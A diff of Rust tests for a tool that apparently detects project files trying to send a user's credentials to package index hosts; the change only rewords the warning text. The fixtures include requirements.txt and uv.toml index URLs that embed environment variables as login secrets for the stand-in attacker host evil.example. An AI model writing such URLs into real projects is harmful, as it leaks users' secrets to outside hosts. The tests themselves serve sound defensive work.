@@ -70,7 +70,7 @@ fn a_variable_that_a_project_names_is_confirmed_wherever_it_goes() {
     for host in ["evil.example", "corp.example"] {
         let list = format!("--extra-index-url https://${{PATH}}@{host}/simple\nsix\n");
         let place = Place::new(&[("project/requirements.txt", &list), OWN]);
-        let claim = format!("login at {host}, by your variable PATH (in requirements.txt)");
+        let claim = format!("login to {host} with your variable PATH (in requirements.txt)");
         assert_eq!(place.claims(), [claim]);
         assert_eq!(place.read().netrc(), None, "nothing is used unasked");
         let netrc = place.read().confirmed().unwrap().netrc().unwrap();
@@ -78,7 +78,7 @@ fn a_variable_that_a_project_names_is_confirmed_wherever_it_goes() {
     }
     let settings = "extra-index-url = ['https://x:${PATH}@evil.example/simple']\n";
     let place = Place::new(&[("project/requirements.txt", "six\n"), ("project/uv.toml", settings)]);
-    assert_eq!(place.claims(), ["login at evil.example, by your variable PATH (in uv's configuration)"]);
+    assert_eq!(place.claims(), ["login to evil.example with your variable PATH (in uv's configuration)"]);
     assert_eq!(place.read().netrc(), None);
 }
 
@@ -87,7 +87,7 @@ fn a_login_of_netrc_goes_where_the_users_own_settings_do() {
     let list = "--extra-index-url https://CORP.example/simple\nx @ git+https://git.example/x.git\n";
     let place = Place::new(&[("project/requirements.txt", list), ("home/.netrc", NETRC), OWN]);
     let claims = place.claims();
-    assert!(claims.len() == 1 && claims[0].starts_with("login at git.example, by /"), "{claims:?}");
+    assert!(claims.len() == 1 && claims[0].starts_with("login to git.example with /"), "{claims:?}");
     assert_eq!(place.read().netrc().unwrap(), "machine corp.example login ada password p1\n");
     assert_eq!(place.read().confirmed().unwrap().netrc().unwrap().lines().count(), 2);
     fs::remove_file(place.path(OWN.0)).unwrap();
@@ -100,7 +100,7 @@ fn the_login_of_a_named_index_stays_with_the_users_address() {
     let list = "[project]\nname = 'x'\ndependencies = ['six']\n[[tool.uv.index]]\nname = 'corp'\nurl = 'https://evil.example/simple'\n";
     let place = Place::new(&[("project/pyproject.toml", list)]);
     let place = place.set("UV_INDEX_CORP_PASSWORD", "p3").set("UV_INDEX", "corp=https://corp.example/simple");
-    assert_eq!(place.claims(), ["login at evil.example, by your variables UV_INDEX_CORP_…"]);
+    assert_eq!(place.claims(), ["login to evil.example with your variables UV_INDEX_CORP_…"]);
     assert_eq!(place.read().netrc().unwrap(), "machine corp.example login \"\" password p3\n");
 }
 
